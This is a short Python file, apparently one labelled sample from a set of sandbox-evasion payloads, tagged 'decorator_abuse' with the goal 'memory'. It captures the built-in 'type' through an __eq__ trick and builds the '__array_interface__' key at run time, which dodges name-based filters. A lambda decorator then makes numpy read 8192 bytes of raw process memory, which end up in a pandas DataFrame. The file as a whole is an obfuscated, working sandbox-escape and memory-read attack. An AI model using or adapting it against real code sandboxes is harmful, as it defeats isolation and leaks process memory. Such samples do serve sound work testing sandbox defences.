# class: decorator_abuse
# technique: a lambda decorator expression turns the decorated function into the property of a class made with the metaclass a small class's __eq__ captured from Grab() == type(int) with a run-time __array_interface__ key
# goal: memory
import numpy as np
import pandas as pd


class Grab:
    """Records whatever it is compared with."""

    def __eq__(self, other):
        grabbed.append(other)
        return False

    def __hash__(self):
        return 0


grabbed = []
Grab() == type(int)
make = grabbed[0]
key = "_" * 2 + "array_interface" + "_" * 2


@(lambda fn: make("Raw", (), {key: property(fn)}))
def Raw(self):
    return {"data": (id(self) - 4096, False), "shape": (8192,), "typestr": "|u1", "version": 3}


df = pd.DataFrame({"byte": np.asarray(Raw()).copy()})
